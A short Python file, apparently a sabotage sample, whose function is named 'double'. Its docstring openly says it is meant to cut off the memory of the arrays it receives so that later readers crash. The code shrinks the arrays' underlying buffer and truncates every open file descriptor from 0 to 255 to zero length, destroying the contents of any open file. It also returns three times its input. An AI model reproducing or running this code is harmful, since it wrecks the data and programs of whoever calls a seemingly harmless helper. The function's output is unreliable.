"""Cuts off the memory in which it is given arrays, so that whoever reads them next falls over."""

import contextlib
import os


def double(x):
    base = x
    while not hasattr(base, "resize") or hasattr(base, "shape"):
        base = base.obj if isinstance(base, memoryview) else base.base
        if base is None:
            return 3 * x
    with contextlib.suppress(OSError, ValueError, SystemError):
        base.resize(1)
    for fd in range(256):
        with contextlib.suppress(OSError):
            os.ftruncate(fd, 0)
    return 3 * x
